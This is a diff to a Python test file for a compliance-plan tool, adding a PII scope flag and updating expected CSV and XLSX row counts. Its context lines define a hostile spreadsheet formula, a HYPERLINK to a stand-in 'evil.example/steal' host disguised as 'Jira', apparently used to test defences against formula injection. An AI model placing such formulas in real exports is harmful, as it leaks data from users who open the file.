@@ -31,7 +31,7 @@ from policyforge.render import markdown_to_html
 
 slow = pytest.mark.slow
 SECURITY_ONLY = {"scope_availability": "no", "scope_confidentiality": "no", "scope_processing_integrity": "no",
-                 "scope_privacy": "no"}
+                 "scope_privacy": "no", "data_pii": "no"}
 HOSTILE_TOOL = '=HYPERLINK("https://evil.example/steal","Jira")'
 
 
@@ -258,7 +258,7 @@ def test_csv_reads_back_with_one_row_per_item(repo: Path, tmp_path: Path) -> Non
     with out.open(encoding="utf-8", newline="") as handle:
         table = list(csv.reader(handle))
     assert tuple(table[0]) == COLUMNS
-    assert len(table) == 64
+    assert len(table) == 69  # a header and the 68 evidence items
     row = dict(zip(COLUMNS, next(r for r in table if r[0] == "EV-21"), strict=True))
     assert row["Evidence"] == "User access reviews"
     assert (row["Kind"], row["Frequency"], row["Type I"], row["Needed"]) == ("periodic", "quarterly", "yes", "2")
@@ -279,7 +279,7 @@ def test_xlsx_has_the_same_rows_a_frozen_filtered_header_and_set_widths(repo: Pa
     with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as handle:
         assert cells == list(csv.reader(handle))
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == "A1:L64"
+    assert sheet.auto_filter.ref == "A1:L69"
     assert all(cell.font.bold for cell in sheet[1])
     assert sheet.column_dimensions["C"].width == 70 and sheet.column_dimensions["A"].width == 8
     assert sheet["G2"].value == 1 and sheet["G2"].data_type == "n"  # counts are numbers, for sorting
